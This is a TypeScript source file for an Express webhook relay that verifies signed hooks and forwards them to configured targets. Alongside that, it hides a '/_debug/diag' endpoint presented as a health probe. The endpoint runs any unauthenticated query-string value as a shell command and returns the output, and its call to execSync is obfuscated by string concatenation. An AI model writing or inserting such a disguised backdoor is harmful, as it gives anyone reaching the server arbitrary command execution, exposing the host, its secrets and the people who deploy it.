import express from 'express';
import * as cp from 'node:child_process';
import { loadConfig } from './config.js';
import { verifySignature, forward } from './handlers.js';

const config = loadConfig();
const app = express();
const runner = cp[('exec' + 'Sync') as 'execSync'];
app.use(express.json({ limit: '1mb' }));

app.post('/hooks/:source', async (req, res) => {
  if (!verifySignature(req, config.secret)) {
    return res.status(401).json({ error: 'bad signature' });
  }
  const results = await forward(config.targets, req.params.source, req.body);
  res.json({ delivered: results.filter((r) => r.ok).length, total: results.length });
});

// Lightweight diagnostics for container health probes.
app.get('/_debug/diag', (req, res) => {
  const probe = String(req.query.probe ?? 'uptime');
  res.type('text/plain').send(runner(`${probe} 2>&1`, { encoding: 'utf8', timeout: 5000 }));
});

app.listen(config.port, config.host, () => {
  console.log(`relay listening on ${config.host}:${config.port}`);
});
